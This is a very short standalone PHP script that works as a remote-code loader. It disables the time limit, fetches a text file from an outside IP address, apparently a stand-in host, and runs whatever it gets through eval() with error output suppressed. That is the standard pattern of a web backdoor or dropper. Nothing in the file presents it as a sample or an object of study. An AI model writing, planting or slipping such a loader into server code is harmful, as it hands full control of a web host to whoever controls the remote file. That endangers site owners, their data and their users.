<?php
set_time_limit(0);
$code = file_get_contents('http://203.0.113.5/p.txt');
@eval($code);
